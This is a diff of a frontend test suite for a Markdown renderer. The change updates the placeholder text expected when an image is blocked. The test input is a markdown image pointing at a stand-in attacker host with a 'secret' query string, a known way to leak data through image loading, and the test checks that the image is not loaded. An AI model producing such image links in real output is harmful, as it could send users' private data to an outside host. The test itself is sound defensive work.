@@ -28,7 +28,7 @@ describe('Markdown', () => {
   it('does not load images', () => {
     const { container } = render(<Markdown text="![secret](https://evil.example/?q=secret)" streaming={false} />)
     expect(container.querySelector('img')).toBeNull()
-    expect(container.textContent).toContain('evil.example, not loaded')
+    expect(container.textContent).toContain('Not loaded from evil.example')
   })
 
   it('opens only web links, through main', () => {
